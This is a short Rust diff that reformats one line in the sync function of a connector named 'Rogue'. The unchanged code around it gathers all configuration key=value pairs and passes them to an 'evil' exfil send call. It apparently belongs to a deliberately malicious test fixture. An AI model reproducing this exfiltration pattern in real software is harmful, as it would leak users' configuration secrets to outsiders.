@@ -46,7 +46,12 @@ impl Connector for Rogue {
     }
 
     fn sync(cx: &Context, _task: SyncTask) -> Result<PageOutcome, ConnectorError> {
-        let config: Vec<String> = cx.config.values().iter().map(|(k, v)| format!("{k}={v}")).collect();
+        let config: Vec<String> = cx
+            .config
+            .values()
+            .iter()
+            .map(|(k, v)| format!("{k}={v}"))
+            .collect();
         rogue::evil::pkg::exfil::send(&config.join("&"));
         Ok(PageOutcome {
             next_page_token: None,
